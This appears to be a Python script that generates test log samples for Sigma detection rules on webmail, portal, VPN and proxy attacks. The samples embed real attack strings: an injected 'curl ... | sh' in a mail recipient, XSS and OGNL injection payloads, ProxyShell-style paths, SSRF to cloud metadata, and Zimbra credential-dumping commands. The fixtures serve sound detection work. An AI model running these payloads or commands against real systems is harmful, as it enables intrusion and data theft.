"""Writes the samples of `webmail.yml`, `portal.yml` and `proxy.yml` into `rules/cases/sigma`.

python tests/cases/sigma/webmail.py
"""

# ruff: noqa: E501 - tables read better in one line a row
from __future__ import annotations

import json
from datetime import timedelta

import windows
from devices import denied, vpn
from servers import ATTACKER, OFFICE, START, Audit, Lines, alone, at, case, ran, syslog

OTHER, ADMIN = "198.51.100.7", "10.20.0.9"


def web(
    url: str,
    status: int = 200,
    seconds: int = 0,
    ip: str = ATTACKER,
    method: str = "GET",
    referer: str = "-",
    user: str = "-",
    agent: str = "Mozilla/5.0",
) -> str:
    return f'{ip} - {user} [{at(seconds):%d/%b/%Y:%H:%M:%S} +0700] "{method} {url} HTTP/1.1" {status} 512 "{referer}" "{agent}"'


def post(url: str, status: int = 200, seconds: int = 0, ip: str = ATTACKER, referer: str = "-") -> str:
    return web(url, status, seconds, ip, "POST", referer)


def audit(text: str, ip: str = OFFICE, seconds: int = 0, name: str = "quantri@backan.example") -> str:
    stamp = f"{START + timedelta(seconds=seconds, hours=7):%Y-%m-%d %H:%M:%S},100"
    return f"{stamp} INFO  [qtp509886383-101:https://10.0.0.5:7071/service/admin/soap/] [name={name};oip={ip};ua=ZimbraWebClient;] security - {text}"


def refused(seconds: int, ip: str = ATTACKER) -> str:
    return audit(
        "cmd=AdminAuth; account=quantri@backan.example; error=authentication failed for [quantri@backan.example], invalid password;",
        ip,
        seconds,
    )


def squid(
    url: str,
    seconds: int = 0,
    method: str = "GET",
    status: str = "TCP_MISS/200",
    peer: str = "203.0.113.9",
    user: str = "-",
    ip: str = OFFICE,
) -> str:
    return f"{(START + timedelta(seconds=seconds)).timestamp():.3f}    120 {ip} {status} 4099 {method} {url} {user} HIER_DIRECT/{peer} text/html"


def zimbra() -> None:
    alone("zim-0010", "By anybody from outside; the server itself moves mailboxes.", [post("/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1")],
          [post("/service/extension/backup/mboximport?account-name=an", ip="127.0.0.1"), web("/service/soap/AuthRequest")])  # fmt: skip
    alone("zim-0011", "Among the pictures, in the public folder with data, with a command; Zimbra's own pages, and one that is not there, are none.",
          [web("/zimbra/img/anh.jsp"), post("/zimbra/public/jsp-1.jsp"), web("/zimbra/public/x.jsp?cmd=id"), web("/service/a.jsp")],
          [web("/zimbra/public/launchZCS.jsp"), post("/zimbra/public/login.jsp"), web("/zimbra/img/anh.jsp", 404), web("/tin-tuc/img/trang.jsp"), web("/zimbra/h/search?st=mail")])  # fmt: skip
    alone("zim-0012", "The server itself, the port of administration, an inner address; a page of the world is none.", [web("/service/proxy?target=https://127.0.0.1:7071/service/admin/soap"), web("/zimlet/com_zimbra_webex/httpPost.jsp?companyId=http%3A%2F%2F10.0.0.8%23")],
          [web("/service/proxy?target=https://thoitiet.example/rss"), web("/zimbra/?target=localhost")])  # fmt: skip
    alone(
        "zim-0013",
        "From the Internet; from inside, and refused, are none.",
        [web("/zimbraAdmin/"), post("/service/admin/soap/AuthRequest")],
        [web("/zimbraAdmin/", ip=ADMIN), web("/zimbraAdmin/", 403), web("/zimbra/")],
    )
    alone("zim-0014", "Markup and code in each place; an ordinary calendar and search are none.", [web("/h/calendar?view=month&day=%22%3E%3Cscript%20src=//x.example/a.js%3E"), web("/m/momoveto?st=%22%20onfocus=alert(1)"), post("/?_task=settings&_remote=1&_from=edit-%21x&_action=upload")],
          [web("/h/calendar?view=month&date=20261123"), web("/h/search?st=message&search=h%E1%BB%8Dp"), post("/?_task=settings&_remote=1&_from=edit-identity&_action=upload")])  # fmt: skip
    alone(
        "zim-0015",
        "A line break and a command; an address with a break alone is none.",
        [web("/service/home/x%0d%0aset%20route:proto=imap;user=an%200%200%2012")],
        [web("/service/home/~/?auth=co&fmt=ics"), web("/tim?q=set%20route")],
    )
    hidden = 'NOQUEUE: reject: RCPT from x[203.0.113.45]: 450 4.1.1 <"a$(curl${IFS}203.0.113.9/x|sh)"@backan.example>: Recipient address rejected'
    alone("zim-0016", "In a recipient; a broken recipient, and a price in dollars, are none.", [syslog("postfix/smtpd", hidden)],
          [syslog("postfix/smtpd", hidden.replace('"a$(curl${IFS}203.0.113.9/x|sh)"', '"a(b"')), syslog("postfix/cleanup", "1A: message-id=<$100(usd)@x.example>")])  # fmt: skip
    opened = "cmd=DelegateAuth; accountId=1a-2b; accountName=canbo{:02d}@backan.example;"
    case("zim-0017", "Four owners in ten minutes; one owner four times, and four in two days, are none.", [[audit(opened.format(n), ADMIN, 120 * n) for n in range(4)]],
         [[audit(opened.format(1), ADMIN, 120 * n) for n in range(4)], [audit(opened.format(n), ADMIN, 43200 * n) for n in range(4)]], "correlation")  # fmt: skip
    case("zim-0018", "A mailbox as an archive, the key of all; the size of a mailbox is none.", [ran("/bin/bash", "/opt/zimbra/bin/zmmailbox", "-z", "-m", "an@backan.example", "getRestURL", "/?fmt=tgz"), ran("/bin/bash", "/opt/zimbra/bin/zmprov", "gdpak", "backan.example"), ran("/bin/bash", "zmprov", "ma", "an@backan.example", "zimbraPrefMailForwardingAddress", "x@ngoai.example")],
         [ran("/bin/bash", "/opt/zimbra/bin/zmmailbox", "-z", "-m", "an@backan.example", "gms"), ran("/bin/bash", "zmprov", "-l", "gaa"), ran("/usr/bin/curl", "https://x.example/home?fmt=tgz")])  # fmt: skip
    asked = "  vanthu : TTY=pts/0 ; PWD=/ ; USER=zimbra ; COMMAND={}"
    alone("zim-0019", "The same through sudo; the state of the services is none.", [syslog("sudo", asked.format("/opt/zimbra/bin/zmmailbox -z -m an@backan.example gru //?fmt=zip")), syslog("sudo", asked.format("/opt/zimbra/bin/zmlocalconfig -s ldap_root_password"))],
          [syslog("sudo", asked.format("/opt/zimbra/bin/zmcontrol status")), syslog("sudo", asked.format("/opt/zimbra/bin/zmlocalconfig zimbra_home"))])  # fmt: skip
    helper = "   zimbra : TTY=pts/0 ; PWD=/opt/zimbra ; USER=root ; COMMAND={}"
    alone("zim-0020", "With root and another's file; its daily start is none.", [syslog("sudo", helper.format("/opt/zimbra/libexec/zmslapd -u root -g root -f /tmp/slapd.conf"))],
          [syslog("sudo", helper.format("/opt/zimbra/libexec/zmslapd -l LOCAL0 -h ldap:// ldapi:/// -F /opt/zimbra/data/ldap/config")), syslog("sudo", helper.format("/opt/zimbra/libexec/zmmailboxdmgr status"))])  # fmt: skip
    folder = "/opt/zimbra/jetty_base/webapps/zimbra/"
    case("zim-0021", "Unpacked by cpio, written by a shell; by the package manager, and a log, are none.", [Audit().wrote(folder + "public/a.jsp", "/usr/bin/cpio").lines, Audit().wrote(folder + "img/b.jsp", "/usr/bin/bash").lines],
         [Audit().wrote(folder + "public/login.jsp", "/usr/bin/dpkg").lines, Audit().wrote("/opt/zimbra/log/mailbox.log", "/usr/bin/bash").lines])  # fmt: skip
    entered = "cmd=AdminAuth; account=quantri@backan.example;"
    alone(
        "zim-0022",
        "From the Internet; from inside, and a person's own mailbox, are none.",
        [audit(entered, ATTACKER)],
        [audit(entered, ADMIN), audit(entered.replace("AdminAuth", "Auth"), ATTACKER), refused(0)],
    )
    case(
        "zim-0023",
        "Six in a minute; two, and six from six addresses, are none.",
        [[refused(10 * n) for n in range(6)]],
        [[refused(10 * n) for n in range(2)], [refused(10 * n, f"198.51.100.{n + 1}") for n in range(6)]],
        "correlation",
    )


def exchange() -> None:
    alone("exc-0010", "An inner path behind the address; a phone that asks for its settings is none.", [post("/autodiscover/autodiscover.json?a@x.example/powershell/?X-Rps-CAT=VgEAVA"), web("/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@x.example"), web("/Autodiscover/autodiscover.json?a=..%40x.example%2FPowerShell", 302)],
          [web("/autodiscover/autodiscover.json?Email=an%40backan.example&Protocol=ActiveSync"), web("/autodiscover/autodiscover.json/v1.0/an@backan.example?Protocol=Autodiscoverv1")])  # fmt: skip
    alone("exc-0011", "Data for a script of the front end, or for its folders; the same asked for, and the office's own page, are none.", [post("/ecp/y.js"), post("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x"), post("/owa/auth/Current/themes/resources/logon.css")],
          [web("/ecp/y.js"), post("/ecp/default.aspx"), post("/owa/auth.owa", 302), post("/ecp/DDI/DDIService.svc/GetList?schema=MailboxService")])  # fmt: skip
    alone("exc-0012", "Among the files of IIS and of the logon; the logon itself, and one that is gone, are none.", [post("/aspnet_client/anh.aspx"), web("/owa/auth/tro-giup.aspx"), post("/owa/auth/Current/a.ashx")],
          [web("/owa/auth/logon.aspx?replaceCurrent=1"), web("/owa/auth/15.1.2507/errorFE.aspx"), web("/aspnet_client/anh.aspx", 404), web("/aspnet_client/system_web/4_0/x.js")])  # fmt: skip

    def command(*words: str) -> str:
        return json.dumps(windows.record("MSExchange Management", "MSExchange CmdletLogs", 1, {"Data": list(words)}))

    alone("exc-0013", "An export, and an address of a folder that holds a script; the list of exports is none.", [command("New-MailboxExportRequest", '-Mailbox "an" -FilePath "\\\\\\\\127.0.0.1\\\\c$\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\a.aspx"'), command("Set-OabVirtualDirectory", '-ExternalUrl "http://f/<script language=JScript runat=server>"')],
          [command("Get-MailboxExportRequest", ""), command("Set-OabVirtualDirectory", '-ExternalUrl "https://mail.backan.example/OAB"')], "jsonl")  # fmt: skip
    alone("exc-0014", "A role over all mail, and mail led away; the same looked at is none.", [command("New-ManagementRoleAssignment", '-Role "ApplicationImpersonation" -User "canbo01"'), command("Set-Mailbox", '-Identity "an" -ForwardingSmtpAddress "x@ngoai.example"')],
          [command("Get-Mailbox", '-Filter "ForwardingSmtpAddress -ne $null"'), command("Set-Mailbox", '-Identity "an" -IssueWarningQuota 1GB')], "jsonl")  # fmt: skip

    def wrote(image: str, path: str) -> str:
        return json.dumps(windows.sysmon(11, Image=image, TargetFilename=path))

    iis = windows.SYSTEM + "inetsrv\\w3wp.exe"
    alone("exc-0015", "By the server itself; what it compiles, and what an editor writes, are none.", [wrote(iis, "C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx"), wrote("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe", "C:\\inetpub\\wwwroot\\b.ashx"), wrote("C:\\xampp\\apache\\bin\\httpd.exe", "C:\\xampp\\htdocs\\uploads\\c.php")],
          [wrote(iis, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\a.aspx"), wrote("C:\\Windows\\explorer.exe", "C:\\inetpub\\wwwroot\\tin.aspx"), wrote(iis, "C:\\inetpub\\wwwroot\\App_Data\\anh.png")], "jsonl")  # fmt: skip


def portals() -> None:
    page = "/administrator/index.php"
    case("web-0030", "Sixteen addresses on one page; one address sixteen times, and pages of citizens, are none.", [[post(page, 303, 60 * n, f"198.51.100.{n + 1}") for n in range(16)]],
         [[post(page, 303, 60 * n) for n in range(16)], [post("/gop-y/gui", 200, 60 * n, f"198.51.100.{n + 1}") for n in range(16)]], "correlation")  # fmt: skip
    tries = [post("/wp-login.php", 200, 3 * n) for n in range(25)]
    case("web-0031", "In after the guessing from the same address; another one that enters is none.", [[*tries, web("/wp-admin/index.php", 200, 120)]],
         [[*tries, web("/wp-admin/index.php", 200, 120, ADMIN)], [*tries, web("/wp-admin/index.php", 302, 120)]], "correlation")  # fmt: skip
    alone("web-0032", "Installed, edited; looked at, and refused, are none.", [post("/wp-admin/update.php?action=upload-plugin", 200), post("/administrator/index.php?option=com_installer&view=install", 303), post("/wp-admin/theme-editor.php", 302)],
          [web("/wp-admin/plugins.php"), post("/wp-admin/update.php?action=upload-plugin", 403), post("/wp-admin/admin-ajax.php")])  # fmt: skip
    alone("web-0033", "Brackets of each language; a price in dollars, and a page about Java, are none.", [web("/thu-tuc.action?redirect:%24%7b%23a%3d1%7d", 500), web("/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/"), post("/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=a"), web("/tin?x=%{(#_='multipart/form-data')}", 404)],
          [web("/gia?tien=%24100"), web("/tim?q=lap+trinh+java+runtime"), web("/tin-tuc?redirect=/trang-chu")])  # fmt: skip
    alone("web-0034", "From the page of logging out, to the inner servants, packed; an editor at work is none.", [post("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", referer="/_layouts/SignOut.aspx"), post("/api/jsonws/invoke"), web("/faces/a.jsf?javax.faces.ViewState=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA%3D%3D")],
          [post("/_layouts/15/ToolPane.aspx?DisplayMode=Edit", referer="https://noibo.backan.example/trang.aspx"), web("/api/jsonws"), web("/anh/hoRO0AB.png")])  # fmt: skip
    alone("web-0035", "The cloud's keys, a file, an inner address; where a logon goes back to, and a site of the world, are none.", [web("/anh?url=http://169.254.169.254/latest/meta-data/"), web("/xem?tep=file:///etc/hosts"), web("/proxy?u=http%3A%2F%2F10.0.0.5%3A8080%2F")],
          [web("/dang-nhap?returnUrl=http://10.0.0.5/trang"), web("/xem?u=https://backan.example/10.0.0.5"), web("/tin-tuc?id=1692541692")])  # fmt: skip
    shell = "/Portals/anh/thumb.aspx"
    case("web-0036", "Twenty times by one address; by two addresses, with a page before it, and fewer, are none.", [[post(shell, seconds=60 * n) for n in range(20)]],
         [[post(shell, seconds=60 * n, ip=ATTACKER if n % 2 else OTHER) for n in range(40)], [post(shell, seconds=60 * n, referer="https://backan.example/gui") for n in range(20)], [post(shell, seconds=60 * n) for n in range(9)]], "correlation")  # fmt: skip

    def called(n: int, ip: str, user: str = "doi-tac-01", status: int = 200) -> str:
        return web(f"/api/v1/hoso/{n}", status, 30 * n, ip, user=user)

    case("api-0012", "Seven addresses in four minutes; one address, and refused, are none.", [[called(n, f"198.51.100.{n + 1}") for n in range(7)]],
         [[called(n, OTHER) for n in range(7)], [called(n, f"198.51.100.{n + 1}", status=401) for n in range(7)], [called(n, f"198.51.100.{n + 1}", f"doi-tac-{n:02d}") for n in range(7)]], "correlation")  # fmt: skip
    usual = [called(n, OTHER) for n in range(22)]
    case(
        "api-0013",
        "From another network than ever; a neighbour in the same network is none.",
        [[*usual, called(30, ATTACKER)]],
        [[*usual, called(30, "198.51.100.99")], [*usual[:5], called(30, ATTACKER)]],
        "correlation",
    )


def devices() -> None:
    def entered(n: int, ip: str, user: str = "canbo01", step: int = 600) -> str:
        return vpn(ip, user, step * n, "tunnel-up")

    case("dev-0019", "Three addresses within the hour; three in a day, and three people, are none.", [[entered(n, f"198.51.100.{n + 1}") for n in range(3)]],
         [[entered(n, f"198.51.100.{n + 1}", step=20000) for n in range(3)], [entered(n, f"198.51.100.{n + 1}", f"canbo{n:02d}") for n in range(3)]], "correlation")  # fmt: skip
    at_home = [entered(n, "192.0.2.10", step=86400) for n in range(6)]
    case(
        "dev-0023",
        "From another country than ever; another address of the same one is none.",
        [[*at_home, entered(7, ATTACKER, step=86400)]],
        [[*at_home, entered(7, "192.0.2.99", step=86400)], [*at_home, denied(ATTACKER, "10.1.1.1", 80, 9)]],
        "correlation",
    )
    accepted = "Accepted password for {} from 203.0.113.45 port 51000 ssh2"
    alone("auth-0019", "The name of the factory lets in; refused, and a person's name, are none.", [syslog("sshd", accepted.format("ubnt")), syslog("sshd", accepted.format("888888"))],
          [syslog("sshd", accepted.format("quantri")), syslog("sshd", "Failed password for ubnt from 203.0.113.45 port 51000 ssh2")])  # fmt: skip


def proxies() -> None:
    tunnel = "TCP_TUNNEL/200"
    alone("prx-0010", "To an address on an odd port; with a name, on the port of the web, refused, and inside, are none.", [squid("203.0.113.9:4444", method="CONNECT", status=tunnel)],
          [squid("hop.example:8443", method="CONNECT", status=tunnel), squid("203.0.113.9:443", method="CONNECT", status=tunnel), squid("203.0.113.9:4444", method="CONNECT", status="TCP_DENIED/403"), squid("10.1.1.5:8006", method="CONNECT", status=tunnel, peer="10.1.1.5")])  # fmt: skip
    alone("prx-0011", "A program from an address; from a name, a picture, and from our own server, are none.", [squid("http://203.0.113.9/cap-nhat.exe"), squid("http://203.0.113.9:8080/a/x.HTA?id=1")],
          [squid("http://phanmem.example/cap-nhat.exe"), squid("http://203.0.113.9/anh.png"), squid("http://10.1.1.5/cap-nhat.exe", peer="10.1.1.5"), squid("http://203.0.113.9/cap-nhat.exe", status="TCP_DENIED/403")])  # fmt: skip
    alone("prx-0013", "A tunnel and a box for files; the news is none.", [squid("a1b2.ngrok-free.app:443", method="CONNECT", status=tunnel), squid("https://transfer.sh/x/ho-so.7z", method="PUT")],
          [squid("https://tintuc.example/ngrok"), squid("backan.example:443", method="CONNECT", status=tunnel)])  # fmt: skip
    fields = (
        "ts",
        "uid",
        "id.orig_h",
        "id.orig_p",
        "id.resp_h",
        "id.resp_p",
        "trans_depth",
        "method",
        "host",
        "uri",
        "user_agent",
        "status_code",
    )

    def zeek(host: str, agent: str, target: str = "203.0.113.9") -> Lines:
        row = (f"{START.timestamp():.6f}", "C1", OFFICE, "50000", target, "80", "1", "GET", host, "/a", agent, "200")
        return ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\thttp", "#fields\t" + "\t".join(fields),
                "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tcount", "\t".join(row)]  # fmt: skip

    case("prx-0012", "PowerShell and curl at a bare address; at a name, a browser, and our own server are none.", [zeek("203.0.113.9", "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1"), zeek("203.0.113.9:8080", "curl/8.5.0")],
         [zeek("capnhat.example", "curl/8.5.0"), zeek("203.0.113.9", "Mozilla/5.0 (X11; Linux x86_64)"), zeek("10.1.1.5", "Wget/1.21", "10.1.1.5")])  # fmt: skip
    calls = [squid("http://203.0.113.9/ping", 30 * n) for n in range(110)]
    case(
        "prx-0014",
        "A hundred and ten within the hour; to a name, and in four hours, are none.",
        [calls],
        [
            [squid("http://tintuc.example/ping", 30 * n) for n in range(110)],
            [squid("http://203.0.113.9/ping", 130 * n) for n in range(110)],
        ],
        "correlation",
    )


def main() -> None:
    zimbra()
    exchange()
    portals()
    devices()
    proxies()


if __name__ == "__main__":
    main()
